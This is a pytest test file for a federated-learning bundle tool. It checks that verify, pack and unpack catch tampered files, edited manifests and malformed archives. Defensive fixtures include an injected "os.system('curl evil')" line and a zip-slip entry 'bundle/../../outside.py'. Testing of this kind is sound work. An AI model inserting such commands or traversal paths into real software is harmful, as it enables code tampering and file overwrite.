import json

import pytest

from caia_jupyter.contracts import fileset
from caia_jupyter.researcher import bundle, compose


@pytest.fixture
def built(write_notebook, tmp_path):
    return compose.build(write_notebook("good"), tmp_path / "bundle")


def flip_one_byte(path, offset=None):
    data = bytearray(path.read_bytes())
    offset = len(data) // 2 if offset is None else offset
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


def test_an_intact_bundle_verifies_with_exit_0(built, caia):
    code, out, _ = caia("verify", built.path)
    assert code == 0
    assert out.strip().splitlines()[-1] == built.id
    assert bundle.verify(built.path, built.id) == (built.id, [])


@pytest.mark.parametrize("name", ["federated.py", "caia_runner.py", "config_fed_client.json", "requirements.txt"])
def test_one_flipped_byte_in_any_file_is_named(built, caia, name):
    flip_one_byte(built.path / name)
    code, out, _ = caia("verify", built.path)
    assert code == 1
    assert f"file {name}: sha256" in out


def test_a_flipped_byte_in_the_manifest_is_caught(built, caia):
    text = (built.path / "manifest.json").read_text()
    (built.path / "manifest.json").write_text(text.replace('"rounds": 2', '"rounds": 3'))
    code, out, _ = caia("verify", built.path)
    assert code == 1
    assert "manifest field job.rounds was edited: 2 -> 3" in out
    assert f"expected {built.id}" in out


def test_a_flipped_byte_in_a_captured_file_is_named(write_notebook, tmp_path, caia):
    import numpy as np

    built = compose.build(write_notebook("free_name"), tmp_path / "b", namespace={"LEARNING_RATE": np.float32(0.5)})
    flip_one_byte(built.path / "captured" / "LEARNING_RATE.pkl", offset=-2)
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "file captured/LEARNING_RATE.pkl: sha256" in out


def test_added_removed_and_renamed_files_are_named(built, caia):
    (built.path / "extra.py").write_text("import os\n")
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "file added: extra.py (not in the manifest)" in out
    (built.path / "extra.py").unlink()

    (built.path / "requirements.txt").unlink()
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "file missing: requirements.txt" in out


def test_renamed_file(built, caia):
    (built.path / "federated.py").rename(built.path / "federated_v2.py")
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "file renamed: federated.py -> federated_v2.py" in out


def test_bytecode_written_into_a_bundle_is_named(built, caia):
    (built.path / "__pycache__").mkdir()
    (built.path / "__pycache__" / "federated.cpython-311.pyc").write_bytes(b"x")
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "folder __pycache__/ is not part of a bundle" in out
    assert "file added: __pycache__/federated.cpython-311.pyc" in out


def test_a_hidden_file_in_a_subfolder_counts_as_added(built, caia):
    (built.path / "captured").mkdir()
    (built.path / "captured" / ".sneaky.pkl").write_bytes(b"x")
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "file added: captured/.sneaky.pkl" in out


@pytest.mark.parametrize("field, value", [
    (("job", "rounds"), 9),
    (("job", "min_clients"), 5),
    (("job", "params", "lr"), 10.0),
    (("datasets", "tiny", "columns", 2, "kind"), "float"),
    (("caia_version",), "9.9.9"),
    (("python",), "3.12"),
    (("files", "federated.py", "role"), "runner"),
])
def test_any_edited_manifest_field_is_named(built, caia, field, value):
    manifest = json.loads((built.path / "manifest.json").read_text())
    node = manifest
    for key in field[:-1]:
        node = node[key]
    node[field[-1]] = value
    (built.path / "manifest.json").write_text(json.dumps(manifest))
    code, out, _ = caia("verify", built.path)
    assert code == 1
    assert f"manifest field {'.'.join(map(str, field))} was edited" in out


def test_edited_manifest_is_caught_against_a_given_id_even_without_records(built, caia):
    import shutil

    shutil.rmtree(built.records)
    manifest = json.loads((built.path / "manifest.json").read_text())
    manifest["job"]["rounds"] = 7
    (built.path / "manifest.json").write_text(json.dumps(manifest))
    code, out, _ = caia("verify", built.path, "--id", built.id)
    assert code == 1 and f"expected {built.id}" in out


def test_a_file_changed_together_with_its_manifest_entry_still_changes_the_id(built, caia):
    module = built.path / "federated.py"
    module.write_text(module.read_text() + "import os; os.system('curl evil')\n")
    manifest = json.loads((built.path / "manifest.json").read_text())
    import hashlib

    manifest["files"]["federated.py"].update(sha256=hashlib.sha256(module.read_bytes()).hexdigest(), size=module.stat().st_size)
    (built.path / "manifest.json").write_text(json.dumps(manifest))
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "manifest field files.federated.py.sha256 was edited" in out


def test_verify_of_something_that_is_not_a_bundle(tmp_path, caia):
    code, out, _ = caia("verify", tmp_path)
    assert code == 1 and "no manifest.json" in out
    (tmp_path / "manifest.json").write_text("{not json")
    code, out, _ = caia("verify", tmp_path)
    assert code == 1 and "is not valid JSON" in out


def test_pack_and_unpack_carry_an_intact_bundle(built, tmp_path, caia):
    code, out, _ = caia("pack", built.path, "-o", tmp_path / "a.zip")
    assert code == 0 and out.strip().splitlines()[-1] == built.id
    caia("pack", built.path, "-o", tmp_path / "b.zip")
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()  # same bundle, same bytes
    code, out, _ = caia("unpack", tmp_path / "a.zip", "-o", tmp_path / "received")
    assert code == 0 and out.strip().splitlines()[-1] == built.id
    assert (tmp_path / "received" / "records" / "build.json").is_file()


def test_unpack_refuses_tampered_or_escaping_archives(built, tmp_path, caia):
    import zipfile

    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as archive:
        archive.writestr("bundle/../../outside.py", "import os\n")
    code, _, err = caia("unpack", tmp_path / "evil.zip", "-o", tmp_path / "x")
    assert code == 2 and "not a packed bundle" in err and not (tmp_path / "x").exists()

    caia("pack", built.path, "-o", tmp_path / "good.zip")
    with zipfile.ZipFile(tmp_path / "good.zip") as source, zipfile.ZipFile(tmp_path / "bad.zip", "w") as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, data + b"# changed\n" if name.endswith("federated.py") else data)
    code, _, err = caia("unpack", tmp_path / "bad.zip", "-o", tmp_path / "y")
    assert code == 2 and "is not intact: file federated.py" in err and not (tmp_path / "y").exists()


def test_a_lone_surrogate_in_a_received_manifest_is_one_line_in_verify_and_review(built, caia):
    manifest = json.loads((built.path / "manifest.json").read_text())
    manifest["job"]["params"]["note"] = "\ud800"
    (built.path / "manifest.json").write_text(json.dumps(manifest))  # ASCII JSON: "\ud800", valid JSON, no text
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "holds text that is not valid Unicode (a lone surrogate)" in out
    code, out, err = caia("review", built.path)
    assert code == 2 and err.count("\n") == 1 and "holds text that is not valid Unicode" in err


def test_a_manifest_with_a_duplicate_key_is_refused_by_verify_and_review_as_by_the_guard(built, caia):
    text = (built.path / "manifest.json").read_text()
    (built.path / "manifest.json").write_text(text.replace('"lr": 0.1', '"lr": 0.1, "lr": 0.1', 1))
    code, out, _ = caia("verify", built.path)
    assert code == 1 and "is not valid JSON (duplicate key 'lr')" in out
    code, _, err = caia("review", built.path)
    assert code == 2 and err.count("\n") == 1 and "duplicate key 'lr'" in err


@pytest.mark.parametrize("name", ["captured/x.pkl\n", "captured/x.pkl\nx", "captured/x.pkl/", "xcaptured/x.pkl"])
def test_only_a_whole_captured_name_is_a_bundle_file(name):
    assert fileset.role_of("captured/x.pkl") == "captured" and fileset.role_of(name) is None


def test_verify_takes_the_whole_id_with_or_without_its_prefix_and_refuses_a_short_one(built, caia):
    assert caia("verify", built.path, "--id", built.id)[0] == 0
    assert caia("verify", built.path, "--id", built.id.removeprefix("sha256:"))[0] == 0
    code, _, err = caia("verify", built.path, "--id", built.short_id)
    assert code == 2 and "is not a whole bundle id" in err and "NOT INTACT" not in err
